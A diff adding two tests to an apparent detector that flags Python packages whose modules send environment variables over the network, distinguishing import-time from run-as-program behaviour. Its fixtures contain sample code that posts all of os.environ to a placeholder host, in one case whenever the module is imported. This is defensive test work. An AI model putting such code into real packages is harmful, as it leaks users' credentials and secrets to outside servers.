@@ -76,3 +76,23 @@ def test_imports_in_a_circle_end():
         "p/__init__.py": "",
     }
     assert "network.contact" in found(files)
+
+
+def test_what_a_module_does_as_a_program_is_not_done_for_who_imports_it():
+    files = {
+        "p/__init__.py": "from .send import push\nfrom . import gather\n",
+        "p/gather.py": "import os\nfrom .send import push\nif __name__ == '__main__':\n    push(dict(os.environ))\n",
+        "p/send.py": "import requests\ndef push(data):\n    requests.post('https://c.invalid', json=data)\n",
+    }
+    assert found(files)["chain.environment-to-network"].when is When.CALL  # the file is a program of its own
+    files["p/gather.py"] = files["p/gather.py"].replace("if __name__ == '__main__':\n    ", "")
+    assert found(files)["chain.environment-to-network"].when is When.IMPORT
+
+
+def test_what_a_module_does_unless_it_is_started_is_done_for_who_imports_it():
+    files = {
+        "p/__init__.py": "from . import gather\n",
+        "p/gather.py": "import os\nfrom .send import push\nif __name__ == '__main__':\n    print()\nelse:\n    push(dict(os.environ))\n",
+        "p/send.py": "import requests\ndef push(data):\n    requests.post('https://c.invalid', json=data)\n",
+    }
+    assert found(files)["chain.environment-to-network"].when is When.IMPORT
